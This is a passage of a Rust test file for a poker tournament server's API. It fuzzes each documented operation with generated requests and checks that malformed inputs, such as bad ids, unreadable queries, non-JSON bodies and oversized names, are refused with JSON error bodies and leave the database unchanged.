            out += &format!("  {kind}: {}\n", examples.len());
            let mut by_operation: BTreeMap<&str, usize> = BTreeMap::new();
            for e in examples {
                let operation = e.split(" -> ").next().unwrap_or_default();
                *by_operation.entry(operation).or_default() += 1;
            }
            for (operation, n) in by_operation {
                out += &format!("    {n:>4}  {operation}\n");
            }
            // `FELT_PROPERTY_ALL=1` prints every finding, not three of each kind.
            let shown = if std::env::var_os("FELT_PROPERTY_ALL").is_some() {
                examples.len()
            } else {
                3
            };
            for e in examples.iter().take(shown) {
                out += &format!("      e.g. {e:.400}\n");
            }
        }
        out
    }

    fn count(&self) -> usize {
        self.by_kind.values().map(Vec::len).sum()
    }
}

/// Base64 of `bytes` (standard alphabet, padded), as a slide upload carries an image.
fn b64(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// Everything the database holds, as a digest a read would give: every row of every
/// table, in order. The actions the clock makes due by itself (the lammer deadline, a
/// level added after the last) are left out: the server logs them when their time comes,
/// whoever is asking for what; so are checkpoints and their seals.
fn database_digest(db: &std::path::Path) -> String {
    support::rows_digest(db, |table, line| {
        // A checkpoint and its seal are derived data the server's watcher writes when a
        // log has grown, whoever is asking for what.
        table == "checkpoints"
            || table == "log"
                && (line.contains("lammer_deadline_passed")
                    || line.contains("\"extend\"")
                    || line.contains("checkpoint_sealed"))
    })
}

/// Sends every operation of the served document its requests; returns what was found.
fn explore(server: &Server, doc: &Value, seed: u64, per_operation: usize) -> Findings {
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(PATIENCE))
        .build()
        .into();
    // A second event, so that valid ids name more than the demo.
    let created = agent
        .post(server.url("/api/events"))
        .header("Authorization", &format!("Bearer {}", server.token))
        .send_json(json!({"shipped": "example-nlhe-bba"}));
    let mut events = vec![1];
    if let Ok(mut r) = created
        && let Ok(v) = r.body_mut().read_json::<Value>()
        && let Some(id) = v["id"].as_i64()
    {
        events.push(id);
    }
    let mut findings = Findings::default();
    // `FELT_PROPERTY_SKIP="post /api/seat-draw,..."` leaves operations out (while one is
    // known to stall, so that the others can be looked at).
    let skip = std::env::var("FELT_PROPERTY_SKIP").unwrap_or_default();
    let skip: Vec<&str> = skip.split(',').map(str::trim).collect();
    for (n, op) in operations(doc).iter().enumerate() {
        if skip.contains(&format!("{} {}", op.method, op.path).as_str()) {
            continue;
        }
        let mut g = Gen {
            doc,
            rng: StdRng::seed_from_u64(seed.wrapping_add(n as u64 * 7919)),
            events: events.clone(),
        };
        for _ in 0..per_operation {
            let req = build(&mut g, op, server);
            findings.requests += 1;
            let before = database_digest(&server.db);
            // A stall is silent twice; a request that waited behind a heavy one on a
            // loaded machine (a 25,000-line import just before) answers the second time.
            let answer = match send(&agent, server, &req) {
                Sent::Silent => send(&agent, server, &req),
                sent => sent,
            };
            let answer = match answer {
                Sent::Answered(answer) => answer,
                Sent::Unreadable => {
                    if database_digest(&server.db) != before {
                        findings
                            .by_kind
                            .entry("a refused request changed the database")
                            .or_default()
                            .push(format!(
                                "{} {} -> (unread) | {}",
                                op.method,
                                op.path,
                                req.describe()
                            ));
                    }
                    continue;
                }
                Sent::Silent => {
                    findings
                        .by_kind
                        .entry("no answer in time")
                        .or_default()
                        .push(format!("{} {} -> {}", op.method, op.path, req.describe()));
                    continue;
                }
            };
            *findings.statuses.entry(answer.status).or_default() += 1;
            // A refused request changes nothing: every read is the same after it.
            if (400..500).contains(&answer.status) && database_digest(&server.db) != before {
                findings
                    .by_kind
                    .entry("a refused request changed the database")
                    .or_default()
                    .push(format!(
                        "{} {} -> {} | {}",
                        op.method,
                        op.path,
                        answer.status,
                        req.describe()
                    ));
            }
            for (kind, detail) in check(doc, op, &req, &answer) {
                let body: String = String::from_utf8_lossy(&answer.body)
                    .chars()
                    .take(200)
                    .collect();
                findings.by_kind.entry(kind).or_default().push(format!(
                    "{} {} -> {} {detail} | {}  {body}",
                    op.method,
                    op.path,
                    answer.status,
                    req.describe()
                ));
            }
        }
    }
    // Paths the API does not have: a JSON 404, never the web UI.
    for path in [
        "/api/nope",
        "/api/events/1/nope",
        "/api/events/1/commands/",
        "/api",
    ] {
        for method in ["get", "post"] {
            let req = Request {
                method: method.into(),
                url: server.url(path),
                content_type: None,
                body: None,
                token: Token::Right,
                schema_valid: false,
                long_input: false,
                wrong_method: false,
            };
            let Sent::Answered(answer) = send(&agent, server, &req) else {
                panic!("{}: no answer", req.describe())
            };
            findings.requests += 1;
            *findings.statuses.entry(answer.status).or_default() += 1;
            let problem = if answer.status != 404 {
                Some(format!("answered {}", answer.status))
            } else {
                error_body(doc, &answer).err()
            };
            if let Some(problem) = problem {
                findings
                    .by_kind
                    .entry("unknown API path not a JSON 404")
                    .or_default()
                    .push(format!("{method} {path} -> {problem}"));
            }
        }
    }
    findings
}

fn seed() -> u64 {
    std::env::var("FELT_PROPERTY_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(13)
}

#[test]
fn every_answer_is_one_the_document_gives() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("felt.db"));
    let (status, doc) = support::get(&server.url("/api/openapi.json"));
    assert_eq!(status, 200);
    let started = Instant::now();
    let findings = explore(&server, &doc, seed(), PER_OPERATION);
    println!(
        "{} operations, {} in {:.1?}",
        operations(&doc).len(),
        findings.summary(),
        started.elapsed()
    );
    assert_eq!(findings.count(), 0, "{}", findings.summary());
}

/// What a raw request got: status, content type and the JSON body (null when not JSON).
fn raw(
    server: &Server,
    method: &str,
    path: &str,
    content_type: Option<&str>,
    body: &[u8],
) -> (u16, String, Value) {
    let req = Request {
        method: method.into(),
        url: server.url(path),
        content_type: None,
        body: Some(body.to_vec()),
        token: Token::Right,
        schema_valid: false,
        long_input: false,
        wrong_method: false,
    };
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(PATIENCE))
        .build()
        .into();
    let mut builder = ureq::http::Request::builder()
        .method(method)
        .uri(&req.url)
        .header("Authorization", format!("Bearer {}", server.token));
    if let Some(ct) = content_type {
        builder = builder.header("Content-Type", ct);
    }
    let mut response = agent
        .run(builder.body(body.to_vec()).unwrap())
        .unwrap_or_else(|e| panic!("{}: {e}", req.describe()));
    let ct = response
        .headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    let json = response.body_mut().read_json().unwrap_or(Value::Null);
    (response.status().as_u16(), ct, json)
}

/// Malformed requests (ids that are not ids, query strings that cannot be read, bodies that
/// are not JSON, 100 KB names, a method or path the API does not have), each answered with
/// the `{code, message}` body, the fitting status, and no more than an excerpt of what was
/// sent.
#[test]
fn malformed_requests_are_refused_in_json() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("felt.db"));
    let get = |path: &str| raw(&server, "GET", path, None, b"");
    let refused = |(status, ct, body): (u16, String, Value), want: u16, code: &str| {
        assert_eq!(status, want, "{body}");
        assert!(ct.starts_with("application/json"), "{ct}");
        assert_eq!(body["code"], code, "{body}");
        body["message"].as_str().unwrap().to_string()
    };

    // Event ids that are not ids.
    let message = refused(get("/api/events/abc"), 400, "bad-request");
    assert_eq!(
        message,
        "\"abc\" is not an event id: an id is a whole number from 1 to 9223372036854775807"
    );
    refused(get(&format!("/api/events/{HUGE}")), 400, "bad-request");
    refused(
        get(&format!("/api/events/{HUGE}/clock")),
        400,
        "bad-request",
    );
    refused(get("/api/events/0"), 404, "no-such-event");

    // Query strings that cannot be read.
    let message = refused(
        get("/api/events/1/paper/sheet.pdf?size=zzz"),
        400,
        "bad-request",
    );
    assert!(message.contains("unknown field `size`"), "{message}");
    refused(
        get("/api/events/1/paper/sheet.pdf?paper=zzz"),
        400,
        "bad-request",
    );
    refused(get("/api/players?q=a&q=b"), 400, "bad-request");
    refused(get("/api/players?name=a"), 400, "bad-request");
    refused(get("/api/ante?players=%zz"), 400, "bad-request");

    // Bodies that are not JSON, or not sent as JSON, or too large.
    let commands = "/api/events/1/commands";
    let json = Some("application/json");
    refused(
        raw(&server, "POST", commands, json, b"not json"),
        400,
        "bad-request",
    );
    refused(
        raw(&server, "POST", commands, json, b""),
        400,
        "bad-request",
    );
    let plain = Some("text/plain");
    let start = br#"{"type":"start"}"#;
    refused(
        raw(&server, "POST", commands, plain, start),
        415,
        "unsupported-media-type",
    );
    refused(
        raw(&server, "POST", commands, None, start),
        415,
        "unsupported-media-type",
    );
    refused(
        raw(&server, "POST", "/api/chip-race", plain, b"{}"),
        415,
        "unsupported-media-type",
    );
    // (A body over the limit is answered 413 before it is read: `extract`'s own test.)
    // A command without fields takes no body, `{}` or `null`.
    for body in [&b""[..], b"{}", b"null"] {
        let (status, _, ack) = raw(&server, "POST", "/api/events/1/commands/pause", json, body);
        assert_eq!(status, 422, "{ack}"); // read, then refused: the demo's clock is not running
        assert_eq!(ack["code"], "clock-not-running");
    }

    // 100 KB names are quoted in part.
    let name = "N".repeat(100_000);
    let register = json!({"type": "register", "name": name}).to_string();
    let message = refused(
        raw(&server, "POST", commands, json, register.as_bytes()),
        422,
        "bad-name",
    );
    assert!(message.len() < 200, "{message}");
    assert!(
        message.contains(&format!("\"{}…\"", "N".repeat(40))),
        "{message}"
    );
    let shipped = json!({"shipped": name}).to_string();
    let message = refused(
        raw(&server, "POST", "/api/events", json, shipped.as_bytes()),
        400,
        "bad-request",
    );
    assert!(message.len() < 200, "{message}");
    let long_type = format!("/api/events/1/commands/{}", "x".repeat(4_000));
    let message = refused(
        raw(&server, "POST", &long_type, json, b"{}"),
        400,
        "bad-request",
    );
    assert!(message.len() < 2_000, "{message}");

    // A method a path does not take, and a path the API does not have.
    let message = refused(
        raw(&server, "POST", "/api/health", None, b""),
        405,
        "method-not-allowed",
    );
    assert!(
        message.starts_with("POST is not one of the methods of /api/health"),
        "{message}"
    );
    refused(
        raw(&server, "PUT", "/api/events/1", None, b""),
        405,
        "method-not-allowed",
    );
    refused(get("/api/nope"), 404, "not-found");
    // Any other path is the web UI's.
    let (status, ct, _) = get("/console/1");
    assert_eq!((status, ct.starts_with("text/html")), (200, true));
}
